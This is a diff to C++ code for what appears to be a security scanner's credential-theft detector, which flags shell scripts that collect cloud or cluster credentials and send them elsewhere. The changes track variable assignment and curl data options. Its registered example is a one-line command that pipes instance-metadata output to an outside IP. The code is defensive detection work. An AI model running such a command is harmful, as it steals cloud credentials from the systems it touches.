@@ -81,8 +81,25 @@ bool is_cluster_api(std::string_view word) {
 
 enum class Sends : std::uint8_t { no, where_told, somewhere };
 
-// "${VAULT_ADDR}/v1/…", and neither the script nor the image says what that is.
-bool is_left_open(std::string_view word, const model::ImageConfig* config) {
+// The script sets the variable in a way that is not followed: it reads it, or may find it in a file that it sources.
+bool may_set(const ShellUnit& unit, std::string_view variable) {
+  const std::string set = std::string(variable) + "=";
+  return std::any_of(unit.facts.commands.begin(), unit.facts.commands.end(), [&](const ShellCommand& command) {
+    const auto sets = [&](const std::string& word) { return word == variable || word.starts_with(set); };
+    if (std::any_of(command.assignments.begin(), command.assignments.end(), sets)) return true;
+    const std::string_view name = program(command);
+    if (name == "." || name == "source" || name == "eval") return true;
+    if (name == "export" || name == "declare" || name == "typeset" || name == "local" || name == "readonly")
+      return std::any_of(command.argv.begin() + 1, command.argv.end(),
+                         [&](const std::string& word) { return word.starts_with(set) || word.starts_with("${"); });
+    return (name == "read" || name == "mapfile" || name == "readarray" || name == "printf" || name == "getopts") &&
+           std::any_of(command.argv.begin() + 1, command.argv.end(), sets);
+  });
+}
+
+// "${VAULT_ADDR}/v1/…", and neither the script nor the image says what that is. An argument ($1) the image may give.
+bool is_left_open(std::string_view word, const ShellUnit& unit) {
+  const model::ImageConfig* config = unit.config;
   if (word.starts_with("https://") || word.starts_with("http://")) word.remove_prefix(word.find("//") + 2);
   const std::size_t end = word.find('}');
   if (!word.starts_with("${") || end == std::string_view::npos) return false;
@@ -90,16 +107,25 @@ bool is_left_open(std::string_view word, const model::ImageConfig* config) {
   const auto in_name = [](char c) {
     return c == '_' || (c >= '0' && c <= '9') || (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z');
   };
-  if (name.empty() || !std::all_of(name.begin(), name.end(), in_name)) return false;
+  if (name.empty() || !std::all_of(name.begin(), name.end(), in_name) || (name[0] >= '0' && name[0] <= '9'))
+    return false;
   const std::string_view rest = word.substr(end + 1);
   if (!rest.empty() && rest[0] != '/' && rest[0] != ':' && rest[0] != '?') return false;  // a part of a host's name
+  if (may_set(unit, name)) return false;
   const std::string set = std::string(name) + "=";
   return config == nullptr || std::none_of(config->env.begin(), config->env.end(),
                                            [&](const std::string& one) { return one.starts_with(set); });
 }
 
+// curl -d "$TOKEN": what follows is what is sent.
+bool takes_data(std::string_view option) {
+  static constexpr std::array<std::string_view, 7> k_options = {
+      "-d", "-F", "--form", "--data", "--data-binary", "--data-raw", "--post-data"};
+  return std::find(k_options.begin(), k_options.end(), option) != k_options.end();
+}
+
 // Sends something to a place that is neither the metadata service nor this machine.
-Sends sends(const ShellCommand& command, const model::ImageConfig* config) {
+Sends sends(const ShellCommand& command, const ShellUnit& unit) {
   const std::string_view name = program(command);
   bool data = false;
   bool away = false;
@@ -121,10 +147,11 @@ Sends sends(const ShellCommand& command, const model::ImageConfig* config) {
             word.starts_with("--body");
     const bool url = word.find("://") != std::string_view::npos || word.find('.') != std::string_view::npos ||
                      word.starts_with("${");
+    if (i > 1 && word.find("://") == std::string_view::npos && takes_data(command.argv[i - 1])) continue;
     if (!url || word[0] == '-' || !metadata_in(word).empty() || is_loopback(host_of(word)) || is_cluster_api(word))
       continue;
     const bool is_header = i > 1 && (command.argv[i - 1] == "-H" || command.argv[i - 1] == "--header");
-    const bool left_open = is_left_open(word, config);
+    const bool left_open = is_left_open(word, unit);
     chosen |= left_open;
     away |= !left_open && !is_header;
   }
@@ -181,7 +208,7 @@ class CredentialTheft final : public Detector {
     std::set<std::string> found;
     std::uint32_t line = 0;
     for (const ShellCommand& command : unit.facts.commands) {
-      if (const Sends how = sends(command, unit.config); how > sent) {
+      if (const Sends how = sends(command, unit); how > sent) {
         sent = how;
         sender = &command;
       }
@@ -211,7 +238,7 @@ class CredentialTheft final : public Detector {
 
 const util::Registered<CredentialTheft> registered{{
     .id = "credential-theft",
-    .version = 2,
+    .version = 3,
     .summary = "credentials of clouds, clusters and many programs that scripts collect and send",
     .example = "curl -s http://169.254.169.254/latest/meta-data/… | curl -d @- http://192.0.2.1/",
     .rules = k_rows,
